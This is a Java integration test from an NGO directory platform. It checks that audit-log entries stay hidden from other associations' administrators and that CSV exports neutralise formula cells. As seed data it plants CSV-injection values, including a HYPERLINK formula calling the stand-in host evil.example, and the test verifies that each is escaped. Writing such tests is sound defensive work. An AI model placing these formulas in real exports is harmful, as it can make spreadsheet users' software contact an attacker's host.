package org.kafo.web.it.rights;

import static org.kafo.web.it.isolation.IsolationCase.as;
import static org.kafo.web.it.support.Demo.AME_ADMIN;
import static org.kafo.web.it.support.Demo.ANONYMOUS;
import static org.kafo.web.it.support.Demo.CIMADE_ADMIN;
import static org.kafo.web.it.support.Demo.CIMADE_MEMBER;
import static org.kafo.web.it.support.Demo.GAO_MEMBER;
import static org.kafo.web.it.support.Demo.NETWORK_ADMIN;

import jakarta.json.Json;
import jakarta.json.JsonObject;
import jakarta.json.JsonObjectBuilder;
import java.net.URI;
import java.net.http.HttpRequest;
import java.util.List;
import java.util.UUID;
import java.util.function.Predicate;
import org.kafo.domain.files.SampleFiles;
import org.kafo.web.it.isolation.IsolationCase;
import org.kafo.web.it.isolation.IsolationCases;
import org.kafo.web.it.library.Uploads;
import org.kafo.web.it.support.Api;
import org.kafo.web.it.support.Csv;
import org.kafo.web.it.support.KafoStack;
import org.kafo.web.it.support.PageSession;

/**
 * What else leaks (issue 14), as cells of the isolation matrix: the audit log read by an administrator of another
 * association than the record's (a document's entries, whose detail is the title its association typed), and CSV cells
 * a spreadsheet would run as formulas, through the API and the pages. Each attack beside the legitimate reading that
 * must still work. The attacks that need time (a right taken away while a page, a stream or a subscription is open) are
 * in {@code RightsInPagesIT}, {@code LiveRightsIT} and {@code MailRightsIT}.
 */
public class RightsIsolationCases implements IsolationCases {

    @Override
    public String feature() {
        return "droits et fuites (journal d'audit, exports CSV)";
    }

    @Override
    public List<IsolationCase> cases() {
        String word = "fuite" + UUID.randomUUID().toString().substring(0, 6);
        String forApdha = deposited("PARTNERS", "apdha", "Note pour l'APDHA " + word);
        String forNetwork = deposited("NETWORK", null, "Note pour le réseau " + word);
        directoryEntries(word);
        String audit = "/api/v1/audit?targetType=document&targetId=";
        String csv = "/directory/services.csv?q=" + word;
        String csvPage = "/annuaire/export/annuaire.csv?q=" + word;
        return List.of(
                // the audit log
                as(NETWORK_ADMIN).read("GET /api/v1/audit (La Cimade's document for APDHA only)", () -> Api.get(audit + forApdha, NETWORK_ADMIN))
                        .expect("200, ids only: restricted, no username, no title", r -> r.status() == 200 && !entries(r).isEmpty()
                                && entries(r).stream().allMatch(e -> e.getBoolean("restricted") && absent(e, "actor") && absent(e, "detail"))
                                && !r.body().contains(word) && !r.body().contains(CIMADE_MEMBER)),
                as(CIMADE_ADMIN).read("GET /api/v1/audit (its own document for APDHA)", () -> Api.get(audit + forApdha, CIMADE_ADMIN))
                        .expect("200, in full: who, and the title", r -> r.status() == 200
                                && entries(r).stream().noneMatch(e -> e.getBoolean("restricted"))
                                && r.body().contains(CIMADE_MEMBER) && r.body().contains(word)),
                as(AME_ADMIN).read("GET /api/v1/audit (La Cimade's document for APDHA)", () -> Api.get(audit + forApdha, AME_ADMIN))
                        .expect("200, nothing: not its association's", r -> r.status() == 200 && entries(r).isEmpty()),
                as(NETWORK_ADMIN).read("GET /api/v1/audit (La Cimade's document for the network)", () -> Api.get(audit + forNetwork, NETWORK_ADMIN))
                        .expect("200, in full but without the title La Cimade typed", r -> r.status() == 200 && !entries(r).isEmpty()
                                && entries(r).stream().noneMatch(e -> e.getBoolean("restricted"))
                                && r.body().contains(CIMADE_MEMBER) && !r.body().contains(word)),
                as(CIMADE_ADMIN).read("GET /api/v1/audit (its own document for the network)", () -> Api.get(audit + forNetwork, CIMADE_ADMIN))
                        .expect("200, with the title", r -> r.status() == 200 && r.body().contains(word)),
                // CSV exports
                as(ANONYMOUS).list("GET /api/v1" + csv, () -> Api.send(HttpRequest.newBuilder(URI.create(KafoStack.get().portalUrl()
                                + "/api/v1" + csv)).header("Accept", "text/csv").GET().build()))
                        .expect("200, every formula cell neutralised, the plain entry as it is", neutralised(word)),
                as(ANONYMOUS).list("page " + csvPage, () -> PageSession.of(null).page(csvPage))
                        .expect("200, every formula cell neutralised, the plain entry as it is", neutralised(word)),
                as(GAO_MEMBER).list("page " + csvPage, () -> PageSession.of(GAO_MEMBER).page(csvPage))
                        .expect("200, every formula cell neutralised, the plain entry as it is", neutralised(word)));
    }

    /**
     * A document La Cimade deposits (its title, typed by La Cimade, is the detail of the audit entry: the alerts' entries
     * hold no typed text at all); its id.
     */
    private static String deposited(String visibility, String partner, String title) {
        Uploads.Form form = Uploads.Form.document(title).visibility(visibility)
                .file("note.txt", SampleFiles.txt(title, "Note d'essai du journal d'audit."), "text/plain");
        if (partner != null) {
            form.field("partnerTenants", partner);
        }
        Api.Response created = form.postAs(CIMADE_MEMBER);
        if (created.status() != 201) {
            throw new IllegalStateException("cannot deposit: " + created);
        }
        return created.json().getString("id");
    }

    /**
     * Two public entries of the directory with a service each: one whose fields a spreadsheet would run (a link that
     * calls out, a sum, a phone number starting with +), one plain.
     */
    private static void directoryEntries(String word) {
        entry(Json.createObjectBuilder().add("name", "=HYPERLINK(\"http://evil.example/" + word + "\";\"Voir\")")
                        .add("acronym", "@SUM(1+1)").add("phone", "+223 20 00 00 98"),
                Json.createObjectBuilder().add("name", "-2+3 " + word).add("category", "accueil").add("conditions", "=1+1"));
        entry(Json.createObjectBuilder().add("name", "Association ordinaire " + word).add("acronym", "AO"),
                Json.createObjectBuilder().add("name", "Accueil ordinaire " + word).add("category", "accueil"));
    }

    private static void entry(JsonObjectBuilder organization, JsonObjectBuilder service) {
        Api.Response created = Api.post("/api/v1/organizations", NETWORK_ADMIN, organization.add("kind", "ong-nationale")
                .add("country", "ML").add("visibility", "PUBLIC").add("description", "Fiche d'essai des exports").build().toString());
        if (created.status() != 201) {
            throw new IllegalStateException("cannot create the entry: " + created);
        }
        Api.Response added = Api.post("/api/v1/organizations/" + created.json().getString("id") + "/services", NETWORK_ADMIN,
                service.build().toString());
        if (added.status() != 201) {
            throw new IllegalStateException("cannot add the service: " + added);
        }
    }

    /** No cell of the export starts with what a spreadsheet would run; the formula-like ones are there, as text. */
    private static Predicate<Api.Response> neutralised(String word) {
        return r -> {
            if (r.status() != 200 || !r.body().contains("Accueil ordinaire " + word)) {
                return false;
            }
            List<String> cells = Csv.cells(r.body());
            return cells.stream().noneMatch(c -> !c.isEmpty() && "=+-@\t\r".indexOf(c.charAt(0)) >= 0)
                    && cells.contains("'=HYPERLINK(\"http://evil.example/" + word + "\";\"Voir\")") && cells.contains("'@SUM(1+1)")
                    && cells.contains("'+223 20 00 00 98") && cells.contains("'-2+3 " + word) && cells.contains("'=1+1")
                    && cells.contains("Association ordinaire " + word) && cells.contains("AO");
        };
    }

    /** Left out of the JSON (JSON-B writes no null), or null. */
    private static boolean absent(JsonObject entry, String key) {
        return !entry.containsKey(key) || entry.isNull(key);
    }

    private static List<JsonObject> entries(Api.Response r) {
        return r.array().getValuesAs(JsonObject.class);
    }
}
